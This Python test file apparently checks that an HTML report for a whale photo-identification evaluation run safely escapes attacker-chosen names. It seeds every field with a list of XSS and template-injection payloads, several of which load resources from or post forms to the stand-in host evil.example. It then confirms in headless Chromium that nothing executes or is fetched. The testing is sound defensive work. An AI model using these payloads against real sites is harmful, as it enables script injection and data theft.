"""The page in Chromium where everything of a run is named by an attacker: no script of theirs runs, no dialog opens, nothing is fetched."""

import json
import re
import shutil
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import toy
import toy_run
from eval import folds, leaderboard, report, summary
from eval.files import write_json, write_table

CHROMIUM = shutil.which("chromium")
playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed")
RUN = "window.owned=(window.owned||0)+1"
ATTACKS = [
    f"<script>{RUN}</script>", f"</script><script>{RUN}</script>", f"</style><script>{RUN}</script>", f"</title><script>{RUN}</script>", f"-->]]><script>{RUN}</script><!--",
    f'"><img src=x onerror="{RUN}">', f"'><svg onload='{RUN}'>", f'" onmouseover="{RUN}" onfocus="{RUN}" autofocus x="', f"' onload='{RUN}' x='", f"javascript:{RUN}//",
    f"<a href=\"javascript:{RUN}\">x</a>", "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<style>@import url(https://evil.example/x.css)</style>", "<iframe src=https://evil.example/></iframe>",
    "<img src=https://evil.example/x.png>", "<object data=https://evil.example/x></object>", "<form action=https://evil.example/><input name=search></form>", "<video src=https://evil.example/x autoplay>",
    "{{7*7}}", "{{ ''.__class__.__mro__ }}", "{% import 'os' as os %}{{ os }}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "$\\frac{7}{7}$", "\\u003cscript\\u003e", "&lt;script&gt;", "&#60;script&#62;",
    f"\\\"}}];{RUN};//", f"'+{RUN}+'", "url(https://evil.example/x)", "expression(alert(1))", "__proto__", "constructor", "%s%n{0}", "<!DOCTYPE html>", "]]>", "&", "<", "\\",
]
SPACED = "\u2028" + RUN + "\u2029"  # ends a line in a script, and in no string of JSON


def attack(number: int, name: str) -> str:
    return f"{name} {ATTACKS[number % len(ATTACKS)]}"


def file_name(number: int) -> str:
    """What can stand in a file's name of an attack."""
    return attack(number, f"{number}").replace("/", "\u2215")[:120] + ".jpg"


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    """A run whose photographs, files, individuals, encounters, viewpoints, dates, scenarios, models, steps, systems and folder bear ATTACKS."""
    place = tmp_path_factory.mktemp("hostile")
    run, data = place / "runs" / ("run " + ATTACKS[0].replace("/", "\u2215")), toy.competition(place / "data", n_whales=22)
    table = pd.read_csv(data / "metadata.csv", dtype=str)
    for number, path in enumerate(table.path):
        (data / path).rename(data / "images" / file_name(number))
    numbers = np.arange(len(table))
    table["path"] = [f"images/{file_name(number)}" for number in numbers]
    table["image_id"] = [attack(number, image) for number, image in enumerate(table.image_id)]
    for shift, column in enumerate(("whale_id", "encounter_id", "viewpoint")):
        codes = pd.factorize(table[column])[0]
        table[column] = [attack(code * 3 + shift, name) for code, name in zip(codes, table[column])]
    write_table(table, data / "metadata.csv")
    folds.make(data, run / "folds", "whale", n_folds=2)
    for k in (0, 1):
        fold = run / "folds" / str(k)
        dated = pd.read_csv(fold / "test/metadata.csv", dtype=str)
        write_table(dated.assign(date=[attack(number, "2020") for number in range(len(dated))]), fold / "test/metadata.csv")
        toy_run.write_fold(run, k, seed=k)
        toy_run.write_training(run / f"fold{k}")
        hostile_training(run / f"fold{k}")
        toy_run.explain(run, k)
        hostile_doubts(run, k)
    images = pd.read_csv(run / "folds/0/test/metadata.csv", dtype=str).image_id.to_numpy(str)
    (run / "fold0" / "embeddings").mkdir()
    rows = np.random.default_rng(0).normal(size=(len(images), 8)).astype(np.float32)
    np.savez(run / "fold0" / "embeddings" / "m.npz", image_id=images, plain=rows, mirror=rows)
    write_json(summary.pooled([run / "fold0", run / "fold1"]), run / "score.json")
    write_table(pd.DataFrame([[each, 1.5, 100] for each in ATTACKS], columns=["step", "seconds", "peak_mb"]), run / "summary.csv")
    manifest = json.loads((run / "folds" / "manifest.json").read_text())
    manifest["notes"] = ATTACKS + [SPACED]
    for fold in manifest["folds"].values():
        for number, scenario in enumerate(fold["scenarios"].values()):
            scenario["kind"] = attack(number + 5, SPACED)
    write_json(manifest, run / "folds" / "manifest.json")
    cut = {"protocol": manifest["protocol"], "data": str(manifest["metadata_sha256"])[:12], "seed": 0, "n_folds": 2, "fold": "0+1", "measure": "MAP@20", "n_queries": 9, "score": 0.2}
    usual = dict.fromkeys(leaderboard.COLUMNS, "") | cut | {"board": attack(2, "board")}
    write_table(pd.DataFrame([usual | {"system": each, "variant": attack(number + 7, ""), "models": each} for number, each in enumerate(ATTACKS)])[leaderboard.COLUMNS], run.parent / "leaderboard.csv")
    return run


def hostile_doubts(run: Path, fold: int) -> None:
    """All training photographs, those of an attack's name first in turn."""
    table = pd.read_csv(run / f"folds/{fold}/train/metadata.csv", dtype=str)
    order = np.random.default_rng(fold).permutation(len(table))
    write_table(table[["image_id", "path", "whale_id"]].assign(doubt=order / 10, angle=60.0, other_whale_id=table.whale_id.to_numpy()[order], other_angle=40.0), run / f"fold{fold}/doubts.csv")


def hostile_training(fold: Path) -> None:
    provenance = json.loads((fold / "weights/provenance.json").read_text())
    write_json({**provenance, "command": " ".join(ATTACKS), "data": {each: each for each in ATTACKS}, SPACED: SPACED}, fold / "weights/provenance.json")
    (fold / "weights/recipe.yaml").write_text("\n".join(ATTACKS))
    log = pd.read_csv(fold / "weights/plain.log.csv")
    for number in (0, 5, 6, 7, 20):
        write_table(log, fold / "weights" / (file_name(number).removesuffix(".jpg") + ".log.csv"))


@pytest.fixture(scope="module")
def written(run, tmp_path_factory):
    """The page as it is, and once more without its policy: what is written must be harmless by itself."""
    path = report.report(run, tmp_path_factory.mktemp("pages") / "report.html")
    bare, text = path.with_name("bare.html"), path.read_text("utf-8")
    bare.write_text(re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>\n', "", text), "utf-8")
    assert len(bare.read_text("utf-8")) < len(text)
    return {"as it is": path, "without its policy": bare}


@pytest.fixture
def visit(written):
    """Opens a page; at the end nothing of an attacker has run and nothing was asked for."""
    with playwright.sync_playwright() as running:
        browser, wrong, pages = running.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"]), [], []

        def opened(which):
            page = browser.new_page()
            page.on("dialog", lambda dialog: (wrong.append(f"dialog {dialog.message}"), dialog.dismiss()))
            page.on("pageerror", lambda error: wrong.append(f"error {error}"))
            page.on("popup", lambda popup: wrong.append("popup"))
            page.on("download", lambda download: wrong.append("download"))
            home = written[which].as_uri()

            def only_the_page(route):
                if route.request.url.split("#")[0] == home:
                    return route.continue_()
                wrong.append(f"asks for {route.request.url[:80]}")
                route.abort()

            page.route("**/*", only_the_page)
            page.goto(home)
            pages.append((page, home))
            return page

        yield opened
        for page, home in pages:
            assert page.url.split("#")[0] == home and page.evaluate("window.owned") is None and page.evaluate("Object.prototype.owned") is None
        assert not wrong
        browser.close()


CENSUS = """() => ({
    scripts: document.scripts.length,
    handlers: [...document.querySelectorAll("*")].filter(element => [...element.attributes].some(attribute => /^on/i.test(attribute.name))).length,
    foreign: document.querySelectorAll("base, link, iframe, object, embed, video, audio, foreignObject, form[action], svg image, svg script, meta[http-equiv=refresh]").length,
    sources: [...document.querySelectorAll("[src], [href], [data], [action], [formaction]")].map(element => element.getAttribute("src") ?? element.getAttribute("href") ?? "")
        .filter(value => !/^(data:image\\/(webp|png|jpeg);base64,|#)/.test(value)),
    styles: [...document.querySelectorAll("style, [style]")].filter(element => /evil|expression/.test((element.matches("style") ? element.textContent : "") + element.getAttribute("style"))).length,
})"""


@pytest.mark.parametrize("which", ["as it is", "without its policy"])
def test_names_of_an_attacker_are_text_wherever_they_stand(which, visit, run):
    page = visit(which)
    clean = {"scripts": 2, "handlers": 0, "foreign": 0, "sources": [], "styles": 0}
    assert page.evaluate(CENSUS) == clean
    for view in ("photographs", "table"):
        page.select_option("[name=view]", view)
        for name in ("fold", "scenario", "viewpoint", "whale"):
            values = page.locator(f"[name={name}] option").evaluate_all("options => options.map(option => option.value)")
            for value in values[1:3]:
                page.select_option(f"[name={name}]", value)
                assert page.locator("#rows article, #rows tbody tr").count() > 0
            page.select_option(f"[name={name}]", "")
        page.fill("[name=search]", "<")
        page.fill("[name=search]", "")
        assert page.evaluate(CENSUS) == clean
    page.evaluate("""() => { for (const element of document.querySelectorAll("body *")) for (const kind of ["mouseover", "mouseenter", "pointerover", "focus", "focusin", "load", "error", "toggle"])
        element.dispatchEvent(new Event(kind, { bubbles: true })); }""")
    page.select_option("[name=view]", "photographs")
    page.locator("#rows .strip button").nth(1).click()
    for _ in range(4):
        page.keyboard.press("ArrowRight")
    page.keyboard.press("Escape")
    page.evaluate("document.querySelectorAll('details').forEach(each => { each.open = true; })")
    assert page.evaluate(CENSUS) == clean
    assert page.locator("#doubts article").count() == 24
    page.locator("#doubts .strip button").nth(1).click()
    page.keyboard.press("ArrowLeft")
    page.keyboard.press("Escape")
    assert page.evaluate(CENSUS) == clean
    for link in page.locator("a").all():
        assert link.get_attribute("href").startswith("#")


def test_every_attack_is_shown_as_it_was_written(visit, run):
    page = visit("as it is")
    shown = page.evaluate("document.body.textContent")
    missing = [each for each in ATTACKS if each not in shown]
    assert not missing and page.title().startswith("run <script>")
    assert "owned" in page.evaluate("document.getElementById('data').textContent") and "\u2028" not in page.evaluate("document.getElementById('data').textContent")
    page.select_option("[name=view]", "table")
    queries = pd.read_csv(run / "fold0/per_query.csv", dtype=str)
    texts = {" ".join(text.split()) for text in page.locator("#rows th button").all_inner_texts()}
    assert texts & {" ".join(query.split()) for query in queries.query_id}


def test_the_policy_alone_would_stop_a_script(written, visit):
    """Behind the escaping stands the policy: a page into which markup had got all the same runs none of it."""
    path = written["as it is"]
    text = path.read_text("utf-8")
    broken = path.with_name("broken.html")
    broken.write_text(text.replace("<main>", f"<main><script>{RUN}</script><img src=x onerror='{RUN}'><a id=out href=\"javascript:{RUN}\">x</a><iframe srcdoc='<script>parent.owned=1</script>'></iframe>"
                                   "<link rel=stylesheet href=https://evil.example/x.css><form action=https://evil.example/><button id=send></button></form>"), "utf-8")
    written["broken"] = broken
    page = visit("broken")
    page.evaluate("document.getElementById('out').click()"), page.evaluate("document.getElementById('send').click()")
    page.wait_for_timeout(200)
